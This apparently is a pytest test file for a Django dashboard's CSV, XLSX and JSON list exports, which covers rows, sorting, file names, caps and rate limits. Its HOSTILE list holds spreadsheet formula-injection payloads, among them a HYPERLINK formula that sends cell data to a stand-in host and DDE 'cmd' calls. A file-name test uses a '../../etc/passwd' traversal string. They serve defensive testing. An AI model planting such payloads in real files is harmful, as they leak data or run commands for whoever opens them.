"""Exports of every list: the filtered rows in the table's columns, files safe to open in a
spreadsheet, named for their filters, capped, and limited for anonymous readers."""

import csv
import datetime
import io
import json
import re
import zipfile

import openpyxl
import pytest
from django.db.models import F
from django.test import Client
from django.urls import reverse

from dashboard import exports, views
from dashboard.models import Deal, DealCitation, Party, Person, Platform, Source, Statement

LISTS = {
    "deal-list": views.DealListView,
    "statement-list": views.StatementListView,
    "platform-list": views.PlatformListView,
    "party-list": views.PartyListView,
    "source-list": views.SourceListView,
    "person-list": views.PersonListView,
}
# Each text that a spreadsheet would take for a formula, as OWASP lists them.
HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def download(client, url):
    response = client.get(url)
    assert response.status_code == 200, url
    return response, response.getvalue()


def csv_of(client, url) -> list[list[str]]:
    response, body = download(client, url)
    assert response["Content-Type"].startswith("text/csv")
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def csv_dicts(client, url) -> list[dict]:
    header, *rows = csv_of(client, url)
    return [dict(zip(header, row, strict=True)) for row in rows]


def json_of(client, url) -> list[dict]:
    return json.loads(download(client, url)[1])


def xlsx_unescaped(text):
    """A cell's text as a spreadsheet program shows it: XLSX writes a character XML cannot
    carry as it is (a carriage return) as _xHHHH_."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda match: chr(int(match[1], 16)), text)


def xlsx_of(client, url):
    response, body = download(client, url)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return body, openpyxl.load_workbook(io.BytesIO(body)).active


# --- Rows and columns ----------------------------------------------------------------------


def test_csv_export_has_exactly_the_filtered_rows(client, india_russia):
    stages = ["signed", "in_delivery", "completed"]
    query = "&".join(f"stage={stage}" for stage in stages)
    rows = csv_dicts(client, f"/deals/?{query}&_export=csv")
    expected = Deal.objects.filter(stage__in=stages)
    assert sorted(r["Slug"] for r in rows) == sorted(c.slug for c in expected)
    assert len(rows) == 8
    s400 = next(r for r in rows if r["Slug"] == "s-400-2018")
    assert s400["Signed"] == "2018" and s400["Signed precision"] == "year"
    assert s400["Expected completion"] == "2026-09"
    assert s400["Expected completion precision"] == "month"
    assert s400["Stage"] == "In delivery" and s400["Buyer"] == "India"
    assert s400["Currency"] == "USD" and s400["Value"] == "5430000000.00"
    citations = DealCitation.objects.filter(deal__slug="s-400-2018").order_by("pk")
    assert json.loads(s400["Sources"]) == [c.source.title for c in citations]
    assert any("2018 deal worth $5.43 billion" in e for e in json.loads(s400["Excerpts"]))


def test_exports_cover_every_page_not_only_the_first(client, india_russia):
    rows = csv_dicts(client, "/statements/?_export=csv&per_page=2")
    assert len(rows) == Statement.objects.count()
    assert {"Date", "Date precision", "Source", "Excerpt"} <= set(rows[0])


@pytest.mark.parametrize("name", LISTS)
def test_every_list_exports_the_same_rows_and_columns_in_csv_xlsx_and_json(
    client, india_russia, name
):
    url = reverse(f"dashboard:{name}")
    header, *rows = csv_of(client, f"{url}?_export=csv")
    as_json = json_of(client, f"{url}?_export=json")
    _body, sheet = xlsx_of(client, f"{url}?_export=xlsx")
    sheet_rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == len(as_json) == len(sheet_rows) - 1 == LISTS[name].model.objects.count()
    assert list(sheet_rows[0]) == header == list(as_json[0])
    # The export's columns are the table's, shown or not, in its order: one definition.
    table = LISTS[name].table_class(LISTS[name].model.objects.none())
    assert header == [str(column.header) for column in table.columns.iterall()]


def test_a_column_added_to_a_table_is_exported(client, india_russia, monkeypatch):
    """A new list gets its exports by declaring its table: the export reads the columns."""
    from dashboard import tables

    class WithPublisherSlug(tables.SourceTable):
        origin = tables.Column(accessor="publisher", verbose_name="Origin", visible=False)

        class Meta(tables.SourceTable.Meta):
            pass

    monkeypatch.setattr(views.SourceListView, "table_class", WithPublisherSlug)
    rows = csv_dicts(client, "/sources/?_export=csv")
    assert {r["Origin"] for r in rows} == set(Source.objects.values_list("publisher", flat=True))


def test_the_export_follows_the_lists_sort_with_unknown_values_last(client, india_russia):
    rows = json_of(client, "/deals/?sort=-value_amount&_export=json")
    # Stated values sort on one scale, constant dollars (tests/test_money.py).
    expected = Deal.objects.order_by(F("value_usd_constant").desc(nulls_last=True), "pk")
    assert [r["Slug"] for r in rows] == [d.slug for d in expected]
    assert rows[-1]["Value"] is None
    by_title = json_of(client, "/deals/?sort=title&_export=json")
    # Names sort as a reader sorts them: the text, then the number in it ("S-400" before
    # "S-1000"), as the page does.
    assert [r["Title"] for r in by_title] == sorted(
        (d.title for d in Deal.objects.all()), key=reading_order
    )


def reading_order(name):
    head, number = re.match(r"(\D*)(\d*)", name).groups()
    return head.lower(), int(number or 0), name.lower()


def test_an_edit_shows_in_the_next_export(client, india_russia):
    url = "/deals/?buyer=IN&_export=csv"
    assert "Renamed in the admin" not in download(client, url)[1].decode()
    deal = Deal.objects.filter(buyer__code="IN").order_by("pk").first()
    deal.title = "Renamed in the admin"
    deal.save()
    assert "Renamed in the admin" in download(client, url)[1].decode()


def test_numbers_stay_numbers(client, india_russia):
    s400 = next(r for r in json_of(client, "/deals/?_export=json") if r["Slug"] == "s-400-2018")
    assert s400["Value"] == 5430000000 and isinstance(s400["Units"], int)
    _body, sheet = xlsx_of(client, "/deals/?q=s-400&_export=xlsx")
    header = [c.value for c in sheet[1]]
    row = next(
        r for r in sheet.iter_rows(min_row=2) if r[header.index("Slug")].value == "s-400-2018"
    )
    assert row[header.index("Value")].data_type == "n"
    assert row[header.index("Value")].value == 5430000000
    assert row[header.index("Units")].data_type == "n"


# --- Files safe to open ----------------------------------------------------------------------


def hostile_records():
    """One record of each kind whose every text field begins as a formula would."""
    texts = iter(f"{HOSTILE[i % len(HOSTILE)]} #{i}" for i in range(1000))
    buyer = Party.objects.create(name=next(texts), code="XA", iso3="XAA")
    seller = Party.objects.create(name=next(texts), code="XB", iso3="XBB")
    platform = Platform.objects.create(
        slug="-platform", name=next(texts), category="air_defence", description=next(texts)
    )
    platform.aliases.create(name=next(texts))
    platform.makers.add(seller)
    source = Source.objects.create(
        slug="-source",
        title=next(texts),
        publisher=next(texts),
        url=next(texts),
        date_note=next(texts),
        text="words",
    )
    deal = Deal.objects.create(
        slug="-deal",
        title=next(texts),
        buyer=buyer,
        seller=seller,
        platform=platform,
        stage="signed",
        value_amount=-0,
        value_currency="=A1",
        notes=next(texts),
    )
    deal.citations.create(source=source, excerpt=next(texts))
    speaker = Person.objects.create(
        slug="-person", name=next(texts), role=next(texts), party=buyer
    )
    statement = Statement.objects.create(
        slug="-statement",
        speaker=speaker,
        date="2025",
        kind="reported",
        text=next(texts),
        excerpt=next(texts),
        date_note=next(texts),
        source=source,
    )
    statement.platforms.add(platform)
    statement.deals.add(deal)


@pytest.mark.parametrize("name", LISTS)
def test_no_exported_text_can_run_as_a_formula(client, db, name):
    hostile_records()
    url = reverse(f"dashboard:{name}")
    as_json = json_of(client, f"{url}?_export=json")
    header, *rows = csv_of(client, f"{url}?_export=csv")
    body, sheet = xlsx_of(client, f"{url}?_export=xlsx")
    # Every text column but the fixed-form ones (codes, kinds, dates) holds a hostile value.
    text_columns = {
        key
        for record in as_json
        for key, value in record.items()
        if isinstance(value, str | list) and value
    }
    hostile_columns = {
        key
        for record in as_json
        for key, value in record.items()
        if (isinstance(value, str) and value.startswith(exports.FORMULA_STARTS))
        or (
            isinstance(value, list)
            and value
            and all(v.startswith(exports.FORMULA_STARTS) for v in value)
        )
    }
    fixed_form = {"Code", "ISO alpha-3", "Kind", "Stage", "Category", "Signed", "Date"}
    fixed_form |= {k for k in text_columns if k.endswith("precision")}
    assert text_columns - fixed_form == hostile_columns - fixed_form != set()
    for record, row in zip(as_json, rows, strict=True):
        for key, cell in zip(header, row, strict=True):
            value = record[key]
            assert not cell.startswith(exports.FORMULA_STARTS), (key, cell)
            if isinstance(value, str) and value.startswith(exports.FORMULA_STARTS):
                assert cell == "'" + value  # the text kept whole after the quote
            elif isinstance(value, list) and value:
                assert json.loads(cell) == value
    # In the XLSX, every text is a string cell, never a formula, and holds the text as it is.
    xlsx_rows = list(sheet.iter_rows(min_row=2))
    for record, row in zip(as_json, xlsx_rows, strict=True):
        for key, cell in zip(header, row, strict=True):
            assert cell.data_type != "f", (key, cell.value)
            value = record[key]
            if isinstance(value, str):
                assert cell.data_type == "s" and xlsx_unescaped(cell.value) == value
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(member)


def test_characters_a_spreadsheet_cannot_hold_do_not_break_the_file(client, india_russia):
    deal = Deal.objects.get(slug="s-400-2018")
    deal.title = "S-400\x1b[2J\x07 renamed"
    deal.save()
    _body, sheet = xlsx_of(client, "/deals/?q=s-400&_export=xlsx")
    titles = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert "S-400\ufffd[2J\ufffd renamed" in titles


def test_csv_reads_dashes_and_accents_right(client, india_russia):
    deal = Deal.objects.get(slug="s-400-2018")
    deal.title = "India–Russia S-400, signé"
    deal.save()
    response, body = download(client, "/deals/?_export=csv")
    assert "charset=utf-8" in response["Content-Type"]
    assert "India–Russia S-400, signé" in body.decode("utf-8-sig")


def test_a_list_cell_holds_values_that_contain_any_separator(client, india_russia):
    deal = Deal.objects.get(slug="s-400-2018")
    titles = ['Part one; part two | three, "four"\nfive', "Second; source"]
    for title, slug in zip(titles, ["x-1", "x-2"], strict=True):
        source = Source.objects.create(slug=slug, title=title, publisher="P", text="t")
        deal.citations.create(source=source, excerpt=f"said; in {slug} | here")
    for row in [
        *[r for r in csv_dicts(client, "/deals/?_export=csv") if r["Slug"] == "s-400-2018"],
        *[r for r in json_of(client, "/deals/?_export=json") if r["Slug"] == "s-400-2018"],
    ]:
        sources = (
            row["Sources"] if isinstance(row["Sources"], list) else json.loads(row["Sources"])
        )
        excerpts = (
            row["Excerpts"] if isinstance(row["Excerpts"], list) else json.loads(row["Excerpts"])
        )
        assert sources[-2:] == titles
        # Item for item: each source with its own excerpt.
        assert excerpts[-2:] == ["said; in x-1 | here", "said; in x-2 | here"]
        assert len(sources) == len(excerpts) == deal.citations.count()


# --- Names, compression, caps and limits -----------------------------------------------------


@pytest.mark.parametrize(
    ("query", "stem"),
    [
        ("buyer=IN&seller=RU", "deals-IN-RU"),
        ("stage=signed&stage=in_delivery&sort=-signed&page=2", "deals-signed-in_delivery"),
        ("q=S-400 Triumf", "deals-S-400-Triumf"),
        ("sort=title", "deals"),
        ('q=../../etc/passwd"; x', "deals-..-..-etc-passwd-x"),
    ],
)
def test_the_file_name_says_what_was_filtered(client, india_russia, query, stem):
    response = client.get(f"/deals/?{query}&_export=csv")
    today = datetime.date.today().isoformat()
    assert response["Content-Disposition"] == f'attachment; filename="{stem}-{today}.csv"'


def test_text_exports_are_compressed_for_clients_that_ask(client, india_russia):
    import gzip

    plain = client.get("/deals/?_export=csv")
    packed = client.get("/deals/?_export=csv", headers={"accept-encoding": "gzip, br"})
    assert "Content-Encoding" not in plain
    assert packed["Content-Encoding"] == "gzip"
    assert gzip.decompress(packed.getvalue()) == plain.getvalue()
    spreadsheet = client.get("/deals/?_export=xlsx", headers={"accept-encoding": "gzip"})
    assert "Content-Encoding" not in spreadsheet
    assert spreadsheet.getvalue().startswith(b"PK")  # an XLSX file is a zip archive


def test_an_export_past_the_cap_is_refused_with_a_clear_message(client, india_russia, settings):
    count = Deal.objects.count()
    settings.DASHBOARD_EXPORT_MAX_ROWS = count
    assert len(csv_dicts(client, "/deals/?_export=csv")) == count
    settings.DASHBOARD_EXPORT_MAX_ROWS = count - 1
    response = client.get("/deals/?_export=csv")
    assert response.status_code == 400
    text = response.content.decode()
    assert f"at most {count - 1:,} rows" in text and "Narrow them" in text
    assert client.get("/deals/?buyer=PK&_export=csv").status_code == 200


def test_anonymous_exports_are_rate_limited_signed_in_ones_are_not(
    client, reader_client, india_russia, settings
):
    rates = settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"]
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {**rates, "export": "2/minute"},
    }
    anonymous = Client()
    statuses = [anonymous.get("/deals/?_export=csv").status_code for _ in range(3)]
    assert statuses == [200, 200, 429]
    refused = anonymous.get("/statements/?_export=json")
    assert refused.status_code == 429 and int(refused["Retry-After"]) > 0
    assert "Too many exports" in refused.content.decode()
    assert anonymous.get("/deals/").status_code == 200  # the pages themselves stay open
    assert [reader_client.get("/deals/?_export=csv").status_code for _ in range(4)] == [200] * 4
